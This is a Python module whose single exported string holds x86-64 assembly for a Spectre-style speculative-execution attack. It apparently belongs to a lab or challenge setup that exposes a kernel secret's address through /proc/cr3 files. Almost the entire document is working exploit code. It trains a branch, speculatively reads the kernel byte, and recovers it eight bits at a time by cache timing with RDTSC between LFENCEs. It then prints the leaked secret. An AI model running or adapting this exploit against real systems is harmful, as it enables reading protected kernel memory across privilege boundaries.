"""A second attack, written from what is published about Meltdown and Spectre, and like the shipped one in nothing.

No fault is ever raised: the forbidden load stands behind a branch that is never taken that way, but was always before.
No byte is looked up in 256 pages: a comparison with the middle of what is still possible chooses one of two lines of
one page, and eight such questions find the byte. And the clock is RDTSC between LFENCEs.
"""

from __future__ import annotations

__all__ = ["QUIET_ATTACK"]

QUIET_ATTACK = r"""
    .equ    LINE, 0x340                 # from one probe to the other
    .equ    ROUNDS, 12                  # of training for each question

    .section .rodata
where:  .asciz  "/proc/cr3/secret_address"
length: .asciz  "/proc/cr3/secret_length"

    .bss
    .balign 4096
probes: .skip   4096
gate:   .skip   4096                    # what the branch asks for, alone in its line
own:    .skip   64
found:  .skip   256
number: .skip   32

    .text
    .globl  _start
_start:
    lea     rdi, [rip + where]
    mov     ebp, 16
    call    ask_kernel
    mov     r12, rax
    lea     rdi, [rip + length]
    mov     ebp, 10
    call    ask_kernel
    mov     r13, rax
    lea     r14, [rip + probes]
    lea     r15, [rip + gate]
    mov     byte ptr [r14], 1
    mov     byte ptr [r15], 1

    xor     ebp, ebp
each_byte:
    lea     rdi, [rip + length]         # so that the kernel loads it
    push    rbp
    mov     ebp, 10
    call    ask_kernel
    pop     rbp
    xor     r8d, r8d                    # the byte is at least this ...
    mov     r9d, 256                    # ... and below this
halve:
    lea     r10d, [r8 + r9]
    shr     r10d, 1
    call    question                    # rax = 1: not below r10
    test    eax, eax
    cmovnz  r8d, r10d
    cmovz   r9d, r10d
    lea     eax, [r8 + 1]
    cmp     eax, r9d
    jb      halve
    lea     rdi, [rip + found]
    mov     [rdi + rbp], r8b
    inc     ebp
    cmp     ebp, r13d
    jb      each_byte

    mov     edi, 1
    lea     rsi, [rip + found]
    mov     rdx, r13
    mov     eax, 1
    syscall
    xor     edi, edi
    mov     eax, 60
    syscall

question:
    mov     ebx, ROUNDS
train:
    lea     rsi, [rip + own]            # our own byte, while the gate is open
    lea     rdi, [r12 + rbp]
    mov     eax, 1
    xor     edx, edx
    cmp     ebx, 1
    cmove   rsi, rdi                    # at last the kernel's, and the gate is shut
    cmove   eax, edx
    mov     [r15], eax
    clflush [r15]
    clflush [r14]
    clflush [r14 + LINE]
    mfence
    cmp     dword ptr [r15], 0          # this takes its time
    je      shut
    movzx   ecx, byte ptr [rsi]
    cmp     ecx, r10d
    setae   cl
    movzx   ecx, cl
    imul    ecx, ecx, LINE
    mov     cl, [r14 + rcx]
shut:
    dec     ebx
    jnz     train
    mov     rdi, r14
    call    clock
    mov     esi, eax
    lea     rdi, [r14 + LINE]
    call    clock
    cmp     eax, esi
    mov     eax, 0
    setb    al
    ret

clock:
    lfence
    rdtsc
    lfence
    mov     ecx, eax
    mov     dl, [rdi]
    lfence
    rdtsc
    sub     eax, ecx
    ret

ask_kernel:                             # rax = the number of base ebp in the file that rdi names
    xor     esi, esi
    mov     eax, 2
    syscall
    mov     ebx, eax
    mov     edi, eax
    lea     rsi, [rip + number]
    mov     edx, 32
    xor     eax, eax
    syscall
    mov     edi, ebx
    mov     eax, 3
    syscall
    lea     rsi, [rip + number]
    xor     eax, eax
1:  movzx   ecx, byte ptr [rsi]
    inc     rsi
    cmp     ecx, 10
    je      3f
    sub     ecx, 48
    cmp     ecx, 10
    jb      2f
    sub     ecx, 39
2:  imul    rax, rbp
    add     rax, rcx
    jmp     1b
3:  ret
"""
